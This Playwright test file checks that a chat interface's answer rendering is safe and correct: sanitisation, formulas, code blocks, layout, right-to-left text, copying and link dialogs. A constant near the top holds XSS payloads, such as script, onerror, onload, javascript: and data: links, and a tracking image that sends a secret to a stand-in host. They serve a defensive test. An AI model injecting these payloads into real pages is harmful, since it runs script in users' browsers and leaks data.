import type { Page } from '@playwright/test';
import { ask, messageBox, newChat, settle, startPractice, turns, write } from './support/chat.ts';
import { expect, test } from './support/fixtures.ts';
import { watchForFailures } from './support/frame.ts';

/** A shared machine can be slow; no test here depends on time. */
test.describe.configure({ timeout: 150_000 });

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src="https://evil.example/a.png" onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"></svg>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '![x](https://evil.example/track.png?secret=1)',
  '[click](javascript:window.pwned=1)',
  '[data](data:text/html,<script>opener.pwned=1</script>)',
  '$\\href{javascript:window.pwned=1}{formula}$',
  '```html\n<img src=x onerror="window.pwned = 1">\n```',
].join('\n\n');

interface Failures {
  pwned: boolean;
  violations: string[];
}

/** Requests that leave the origin, and violations of the page's policy. */
async function watch(page: Page, origin: string): Promise<{ foreign: string[]; failures: () => Promise<Failures> }> {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(origin) && !url.startsWith('blob:') && !url.startsWith('data:')) foreign.push(url);
  });
  await page.addInitScript(() => {
    const store = window as Window & { violations?: string[] };
    store.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      store.violations?.push(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return {
    foreign,
    failures: () =>
      page.evaluate(() => {
        const store = window as Window & { pwned?: number; violations?: string[] };
        return { pwned: store.pwned !== undefined, violations: store.violations ?? [] };
      }),
  };
}

test('answers are drawn whole under the strict policy, do no harm, and open nothing unasked', async ({
  baton,
  context,
  page,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const { foreign, failures } = await watch(page, baton.origin);
  await startPractice(page, baton);
  await test.step('hostile answers do no harm while they stream, and none from history', async () => {
    await write(page, `!speed 900\n!echo\n${HOSTILE}`);
    await settle(page);
    const answer = turns(page).last();
    await expect(answer).toContainText('window.pwned = 1</script>');
    await expect(answer.locator('img, iframe, script, svg[onload]')).toHaveCount(0);
    await expect(answer.getByText('click', { exact: true })).not.toHaveAttribute('href');
    await answer.getByRole('button', { name: /evil\.example/ }).click();
    await expect(page.getByRole('dialog')).toContainText('https://evil.example/track.png?secret=1');
    await page.keyboard.press('Escape');
    expect(await failures()).toEqual({ pwned: false, violations: [] });

    await page.reload();
    await expect(turns(page).last()).toContainText('window.pwned = 1</script>');
    expect(await failures()).toEqual({ pwned: false, violations: [] });
    expect(foreign).toEqual([]);
  });
  await test.step('formulas, coloured code and tables are drawn under the strict policy', async () => {
    await newChat(page);
    await ask(page, '!show math');
    await expect(turns(page).last().locator('.katex').first()).toBeVisible();
    const [family] = await turns(page)
      .last()
      .locator('.katex .mathnormal, .katex .mord')
      .evaluateAll((marks) => marks.map((mark) => getComputedStyle(mark).fontFamily));
    expect(family).toContain('KaTeX');
    // Its file is on its way when the formula is drawn.
    await expect.poll(() => page.evaluate(() => document.fonts.check('16px KaTeX_Main'))).toBe(true);

    await ask(page, '!show code');
    const code = turns(page).last().locator('figure').first();
    await expect(code.locator('[class^=hljs]').first()).toBeVisible();
    await code.getByRole('button', { name: 'Copy code' }).click();
    await expect(code.getByRole('button', { name: 'Copied' })).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toBe(await code.locator('code').textContent());
    await code.getByRole('button', { name: 'Wrap lines' }).click();
    await expect(code.getByRole('button', { name: 'Wrap lines' })).toHaveAttribute('aria-pressed', 'true');

    await ask(page, '!show table');
    const table = turns(page).last().getByRole('group', { name: 'Table' }).first();
    await expect(table).toBeVisible();
    await table.hover();
    await turns(page).last().getByRole('button', { name: 'Copy as CSV' }).first().click();
    expect((await page.evaluate(() => navigator.clipboard.readText())).split('\r\n').length).toBeGreaterThan(2);

    expect(await failures()).toEqual({ pwned: false, violations: [] });
    expect(foreign).toEqual([]);
  });
  await test.step('a very long line and a very long block stay inside their column', async () => {
    await newChat(page);
    await page.setViewportSize({ width: 360, height: 740 });
    await ask(
      page,
      `!echo\n\`\`\`js\nconst a = "${'x'.repeat(3000)}";\n\`\`\`\n\n${'abcdefghij'.repeat(60)}\n\n| ${'wide column | '.repeat(12)}\n|${'---|'.repeat(12)}\n| ${'value | '.repeat(12)}`,
    );
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    for (const part of await turns(page).last().locator('p, figure, [role=group]').all()) {
      const box = await part.boundingBox();
      expect((box?.x ?? 0) + (box?.width ?? 0)).toBeLessThanOrEqual(360);
    }
    await expect(messageBox(page)).toBeVisible();
    await page.setViewportSize({ width: 1280, height: 800 });
  });
  await test.step('formulas and code keep their direction in a text from right to left', async () => {
    await newChat(page);
    await ask(page, `!echo\nשלום $x^2$\n\n$$a + ${'b + '.repeat(80)}c$$\n\n\`\`\`js\n"${'x'.repeat(3000)}";\n\`\`\``);
    const answer = turns(page).last();
    const [base, power] = await Promise.all(
      ['x', '2'].map((letter) =>
        answer.locator('.katex-html').first().getByText(letter, { exact: true }).boundingBox(),
      ),
    );
    expect(base?.x).toBeLessThan(power?.x ?? 0);
    for (const first of [answer.locator('.katex-display .mathnormal').first(), answer.locator('pre')]) {
      const [inside, all] = [await first.boundingBox(), await answer.boundingBox()];
      expect(inside?.x).toBeGreaterThanOrEqual(all?.x ?? Infinity);
    }
  });
  await test.step('no line ends between code or a formula and its particle', async () => {
    await newChat(page);
    const sentence = (word: string): string => `무엇을 할 수 있는지 자세히 보려면 먼저 ${word}을 입력하세요.`;
    await ask(page, `!echo\n${sentence('$a+b=x$')}\n\n${sentence('`!도움말`')} \`שלום\``);
    await expect(turns(page).last().locator('.katex')).toHaveCount(1);
    const torn = await turns(page)
      .last()
      .locator('[data-markdown] p')
      .evaluateAll((paragraphs) =>
        paragraphs.map((paragraph) => {
          const word = paragraph.firstElementChild;
          const range = document.createRange();
          range.setStart(word?.nextSibling ?? paragraph, 0);
          range.setEnd(word?.nextSibling ?? paragraph, 1);
          return Array.from({ length: 100 }, (_, step) => 100 + 4 * step).filter((width) => {
            (paragraph as HTMLElement).style.width = `${width}px`;
            const end = [...(word?.getClientRects() ?? [])].at(-1)?.bottom ?? 0;
            return Math.abs(end - range.getBoundingClientRect().bottom) > 12;
          });
        }),
      );
    expect(torn).toEqual([[], []]);
    await expect(turns(page).last().locator('code').last()).toHaveCSS('unicode-bidi', 'isolate');
  });
  await test.step('a formula that is wider than its line continues on the next one, or scrolls', async () => {
    await newChat(page);
    const sum = Array.from({ length: 60 }, (_, at) => `a_{${at}}`).join('+');
    await ask(page, `!echo\nThe sum $${sum}$ is finite.\n\nHalf of it is $\\frac{${sum}}{2}$.`);
    const answer = turns(page).last().locator('[data-markdown]');
    await expect(answer.locator('.katex')).toHaveCount(2);
    const beyond = ({ scrollWidth, clientWidth }: Element) => scrollWidth - clientWidth;
    expect(await answer.evaluate(beyond)).toBe(0);
    expect(await answer.locator('p').first().evaluate(beyond)).toBe(0);
    expect(await answer.locator('p').last().evaluate(beyond)).toBeGreaterThan(100);
    await expect(answer.locator('p').last()).toHaveCSS('overflow-x', 'auto');
  });
  await test.step('selected formulas are copied and quoted as they are written, once', async () => {
    await newChat(page);
    const text = 'The root of $ax^2$ is\n\n$$x=1$$\n\nand that is all.';
    await ask(page, `!echo\n${text}`);
    await expect(turns(page).last().locator('.katex')).toHaveCount(2);
    await turns(page)
      .last()
      .locator('[data-markdown]')
      .evaluate((shown) => document.getSelection()?.selectAllChildren(shown));
    await page.keyboard.press('Control+C');
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(text);
    await page.evaluate(() => document.dispatchEvent(new PointerEvent('pointerup')));
    await page.getByRole('button', { name: 'Quote' }).click();
    expect(await messageBox(page).inputValue()).toBe(`> ${text.replaceAll('\n\n', '\n>\n> ')}\n\n`);
    await messageBox(page).fill('');
  });
  await test.step('a link in an answer shows where it leads and asks before anything opens', async () => {
    await newChat(page);
    const refused = watchForFailures(page);
    const asked: string[] = [];
    await context.route(
      (url) => url.origin !== baton.origin,
      async (route) => {
        asked.push(route.request().url());
        await route.fulfill({ contentType: 'text/html', body: '<title>outside</title>' });
      },
    );
    await page.keyboard.type('!echo Read [the notes](https://docs.example.com/handoff?from=chat#top) first.');
    await page.keyboard.press('Enter');
    const link = page
      .getByRole('article', { name: /^Practice Claude/ })
      .getByRole('link', { name: 'the notes', exact: true });
    await expect(link).toBeVisible();

    const dialog = page.getByRole('dialog', { name: 'Open this address?' });
    await link.click();
    await expect(dialog).toContainText('https://docs.example.com/handoff?from=chat#top');
    await expect(dialog).toContainText('Goes to docs.example.com');
    await expect(dialog.getByRole('button', { name: 'Cancel' })).toBeFocused();
    await page.keyboard.press('Escape');
    await expect(dialog).toHaveCount(0);
    await expect(link).toBeFocused();

    // Neither the middle button nor a modifier key bypasses the question.
    await link.click({ button: 'middle' });
    await expect(dialog).toBeVisible();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await link.click({ modifiers: ['ControlOrMeta'] });
    await expect(dialog).toBeVisible();
    expect(asked).toEqual([]);
    expect(context.pages()).toHaveLength(1);

    const opened = context.waitForEvent('page');
    await dialog.getByRole('button', { name: 'Open', exact: true }).click();
    const outside = await opened;
    await expect(outside).toHaveTitle('outside');
    expect(await outside.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
    expect(asked).toEqual(['https://docs.example.com/handoff?from=chat']);
    expect(refused).toEqual([]);
  });
});
